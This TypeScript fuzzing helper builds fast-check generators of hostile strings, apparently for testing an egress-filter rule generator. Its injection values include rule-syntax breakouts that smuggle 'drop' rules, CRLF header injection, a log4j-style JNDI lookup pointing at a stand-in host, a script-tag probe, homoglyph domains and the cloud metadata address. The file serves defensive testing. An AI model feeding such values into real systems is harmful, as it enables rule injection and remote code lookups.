/** Hostile strings for fuzzing and injection tests: rule syntax, line breaks, NUL, look-alikes, over-long labels. */
import fc from 'fast-check';

/** Named hostile values, each a way to break out of a rule, a line, a JSON string or a name. */
export const HOSTILE_STRINGS: readonly string[] = [
  'evil.example.com"; sid:1; msg:"x',
  'evil.example.com; drop ip any any -> any any (sid:1;)',
  'evil.example.com)\ndrop ip any any -> any any (msg:"egress-warden injected"; sid:1900000001;)',
  'evil.example.com\r\nSubject: injected',
  'evil.example.com\u0000.attacker.net',
  'evil.example.com\u2028pass ip any any -> any any',
  'evil\u200b.example.com',
  'evil.example.com\\',
  'раураl.com',
  'xn--80ak6aa92e.com',
  'ex\u0430mple.com',
  'ｅｖｉｌ．ｅｘａｍｐｌｅ．ｃｏｍ',
  `${'a'.repeat(64)}.example.com`,
  `${'a'.repeat(63)}.`.repeat(5),
  '*.*.example.com',
  'example.com/../../etc',
  '0x7f.0.0.1',
  '198.51.100.7/33',
  '198.51.100.7; 0.0.0.0/0',
  '0.0.0.0/0',
  '::/0',
  '<script>alert(1)</script>',
  '@channel @here <!everyone> [link](http://evil.example.com)',
  '{"subject":"forged"}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style lookup, meant literally
  '${jndi:ldap://evil.example.com/a}',
  '%0d%0aSet-Cookie: x',
  '\u202eevil.example.com',
  'A'.repeat(5_000),
];

/** Hostile characters mixed into ordinary text, for properties over generated strings. */
const HOSTILE_CHARACTERS = [
  '"',
  "'",
  ';',
  '\n',
  '\r',
  '\u0000',
  '\\',
  '(',
  ')',
  '|',
  '$',
  '\u2028',
  '\u200b',
  '\u202e',
  '\u0430',
  '\uff0e',
  '<',
  '>',
  '&',
  '*',
  '/',
  ':',
];

/** Any string, weighted towards rule syntax, line breaks, NUL and look-alike characters. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HOSTILE_STRINGS),
  fc
    .array(fc.oneof(fc.constantFrom(...HOSTILE_CHARACTERS), fc.string({ maxLength: 8 }), fc.domain()), {
      maxLength: 12,
    })
    .map((parts) => parts.join('')),
  fc.string({ unit: 'binary', maxLength: 64 }),
);

/** Indicators, valid and protected ones among them, and hostile strings shaped like them. */
export const indicatorLike: fc.Arbitrary<string> = fc.oneof(
  fc.domain(),
  fc.ipV4(),
  fc.ipV6(),
  fc.tuple(fc.ipV4(), fc.integer({ min: 0, max: 40 })).map(([ip, prefix]) => `${ip}/${prefix}`),
  fc.constantFrom('10.20.0.5', '169.254.169.254', 'amazonaws.com', 's3.eu-west-1.amazonaws.com', '::1'),
  hostileString,
);
